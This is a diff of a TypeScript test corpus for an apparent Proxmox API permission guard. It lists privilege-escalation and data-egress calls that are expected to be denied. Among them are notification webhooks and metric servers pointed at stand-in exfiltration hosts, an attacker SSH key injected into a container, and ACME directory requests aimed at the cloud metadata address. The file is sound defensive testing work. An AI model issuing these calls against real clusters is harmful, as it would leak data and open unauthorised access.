@@ -133,7 +133,6 @@ export const CORPUS: CorpusCase[] = [
   escalation('ct-password', 'credential', 'admin', call('POST', '/nodes/pve1/lxc', { vmid: 993, ostemplate: 'local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst', password: 'hunter2hunter2' }), 'denied', /password/, call('POST', '/nodes/pve1/lxc', { vmid: 993, ostemplate: 'local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst' })),
   escalation('ct-ssh-keys', 'credential', 'admin', call('POST', '/nodes/pve1/lxc', { vmid: 994, ostemplate: 'local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst', 'ssh-public-keys': 'ssh-ed25519 AAAA attacker' }), 'denied', /ssh-public-keys/, call('POST', '/nodes/pve1/lxc', { vmid: 994, ostemplate: 'local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst' })),
   escalation('cloudinit-dump-user', 'credential', 'ro', call('GET', q('pve1', 100, '/cloudinit/dump'), { type: 'user' }), 'denied', /type/, call('GET', q('pve1', 100, '/cloudinit/dump'), { type: 'network' })),
-  escalation('notification-password', 'credential', 'admin', call('POST', '/cluster/notifications/endpoints/smtp', { name: 'mail', server: 'smtp.example.com', 'from-address': 'pve@example.com', mailto: ['ops@example.com'], password: 'hunter2hunter2' }), 'denied', /password/, call('POST', '/cluster/notifications/endpoints/smtp', { name: 'mail2', server: 'smtp.example.com', 'from-address': 'pve@example.com', mailto: ['ops@example.com'] })),
   // --- host resources exposed to guests ---
   escalation('qemu-host-pci', 'host-resource', 'op', call('PUT', cfgQ, { hostpci0: '0000:01:00.0,pcie=1' }), 'denied', /hostpci0/, call('PUT', cfgQ, { hostpci0: 'mapping=gpu0' })),
   escalation('qemu-host-usb', 'host-resource', 'op', call('PUT', cfgQ, { usb0: 'host=1d6b:0002' }), 'denied', /usb0/, call('PUT', cfgQ, { usb0: 'spice' })),
@@ -156,6 +155,31 @@ export const CORPUS: CorpusCase[] = [
   { id: 'scan-cifs', class: 'data-egress', cluster: 'ro', call: call('GET', '/nodes/pve1/scan/cifs', { server: '203.0.113.9', username: 'u', password: 'p' }), expect: 'denied', why: /privileged/, twin: { call: call('GET', '/nodes/pve1/scan/lvm') }, guard: { risk: 'node-contacts-address' } },
   { id: 'scan-nfs', class: 'data-egress', cluster: 'ro', call: call('GET', '/nodes/pve1/scan/nfs', { server: '203.0.113.9' }), expect: 'denied', why: /privileged/, twin: { call: call('GET', '/nodes/pve1/scan/zfs') }, guard: { risk: 'node-contacts-address' } },
   { id: 'oci-pull', class: 'data-egress', cluster: 'admin', call: call('POST', '/nodes/pve1/storage/local/oci-registry-pull', { reference: 'evil.example/x:latest' }), expect: 'denied', why: /privileged/, twin: { call: call('GET', '/nodes/pve1/storage/local/status') }, guard: { risk: 'node-contacts-address' } },
+  // Outbound integrations: the whole operation is privileged (schema/risk-egress.ts); the twin reads the same integration.
+  ...(
+    [
+      ['notify-webhook', call('POST', '/cluster/notifications/endpoints/webhook', { name: 'exfil', url: 'https://203.0.113.5/hook', method: 'post' }), call('GET', '/cluster/notifications/endpoints/webhook'), 'notification-webhook'],
+      ['notify-webhook-update', call('PUT', '/cluster/notifications/endpoints/webhook/chat', { url: 'https://203.0.113.5/hook' }), call('GET', '/cluster/notifications/endpoints/webhook/chat'), 'notification-webhook'],
+      ['notify-gotify', call('POST', '/cluster/notifications/endpoints/gotify', { name: 'exfil', server: 'https://203.0.113.5', token: 'corpus' }), call('GET', '/cluster/notifications/endpoints/gotify'), 'notification-gotify'],
+      ['notify-smtp-no-password', call('POST', '/cluster/notifications/endpoints/smtp', { name: 'exfil', server: '203.0.113.5', 'from-address': 'pve@example.com', mailto: ['exfil@example.net'] }), call('GET', '/cluster/notifications/endpoints/smtp'), 'notification-smtp'],
+      ['notify-smtp-update', call('PUT', '/cluster/notifications/endpoints/smtp/smtp-relay', { server: '203.0.113.5', password: 'hunter2hunter2' }), call('GET', '/cluster/notifications/endpoints/smtp/smtp-relay'), 'notification-smtp'],
+      ['notify-sendmail', call('POST', '/cluster/notifications/endpoints/sendmail', { name: 'exfil', mailto: ['exfil@example.net'] }), call('GET', '/cluster/notifications/endpoints/sendmail'), 'notification-sendmail'],
+      ['notify-matcher', call('POST', '/cluster/notifications/matchers', { name: 'everything', target: ['chat'] }), call('GET', '/cluster/notifications/matchers'), 'notification-matchers'],
+      ['notify-matcher-update', call('PUT', '/cluster/notifications/matchers/backup-failures', { target: ['chat'], 'match-severity': ['info', 'notice', 'warning', 'error'] }), call('GET', '/cluster/notifications/matchers/backup-failures'), 'notification-matchers'],
+      ['notify-target-test', call('POST', '/cluster/notifications/targets/chat/test'), call('GET', '/cluster/notifications/targets'), 'notification-test'],
+      ['metric-server', call('POST', '/cluster/metrics/server/exfil', { type: 'influxdb', server: '203.0.113.8', port: 8086 }), call('GET', '/cluster/metrics/server'), 'metric-servers'],
+      ['metric-server-update', call('PUT', '/cluster/metrics/server/influx', { server: '203.0.113.8', port: 8086 }), call('GET', '/cluster/metrics/server/influx'), 'metric-servers'],
+      ['sdn-ipam-plugin', call('POST', '/cluster/sdn/ipams', { ipam: 'exfil', type: 'netbox', url: 'https://203.0.113.9/api', token: 'corpus' }), call('GET', '/cluster/sdn/ipams'), 'sdn-ipam-plugins'],
+      ['sdn-dns-plugin', call('POST', '/cluster/sdn/dns', { dns: 'exfil', type: 'powerdns', url: 'https://203.0.113.9/api/v1/servers/localhost', key: 'corpus' }), call('GET', '/cluster/sdn/dns'), 'sdn-dns-plugins'],
+    ] as const
+  ).map(([id, c, twin, rule]): CorpusCase => ({ id, class: 'data-egress', cluster: 'admin', call: c, expect: 'denied', why: /privileged/, twin: { call: twin }, guard: { risk: rule } })),
+  // Parameters that send data out on ordinary operations; the twin is the same call without them.
+  escalation('backup-mailto', 'data-egress', 'op', call('POST', vzdump, { vmid: '118', storage: 'nas', mailto: 'exfil@example.net' }), 'denied', /mailto/, harmlessBackup),
+  escalation('backup-job-mailto', 'data-egress', 'admin', call('POST', '/cluster/backup', { schedule: 'daily', vmid: '118', storage: 'nas', mailto: 'exfil@example.net' }), 'denied', /mailto/, call('POST', '/cluster/backup', { schedule: 'daily', vmid: '118', storage: 'nas' }), 'backup-mailto'),
+  escalation('sdn-zone-peers', 'data-egress', 'admin', call('POST', '/cluster/sdn/zones', { zone: 'exfilvx', type: 'vxlan', peers: '203.0.113.10' }), 'denied', /peers/, call('POST', '/cluster/sdn/zones', { zone: 'corpusvx', type: 'simple' }), 'sdn-peers'),
+  escalation('sdn-zone-dns', 'data-egress', 'admin', call('POST', '/cluster/sdn/zones', { zone: 'exfildns', type: 'simple', dns: 'pdns', dnszone: 'corpus.example' }), 'denied', /dns/, call('POST', '/cluster/sdn/zones', { zone: 'corpusdn', type: 'simple', dnszone: 'corpus.example' })),
+  escalation('acme-directory', 'data-egress', 'ro', call('GET', '/cluster/acme/tos', { directory: 'http://169.254.169.254/latest/meta-data' }), 'denied', /directory/, call('GET', '/cluster/acme/tos')),
+  escalation('acme-meta-directory', 'data-egress', 'ro', call('GET', '/cluster/acme/meta', { directory: 'http://10.0.0.1:8080/admin' }), 'denied', /directory/, call('GET', '/cluster/acme/meta'), 'acme-directory'),
   { id: 'agent-exec-status', class: 'read-only', cluster: 'ro', call: call('GET', q('pve1', 100, '/agent/exec-status'), { pid: 1 }), expect: 'denied', why: /privileged/, twin: { call: call('GET', q('pve1', 100, '/agent/info')) }, guard: { risk: 'exec-status' } },
   // --- guard rails bypassed ---
   escalation('skiplock', 'lock-bypass', 'op', call('PUT', cfgQ, { description: 'x', skiplock: 1 }), 'denied', /skiplock/, harmlessQ),
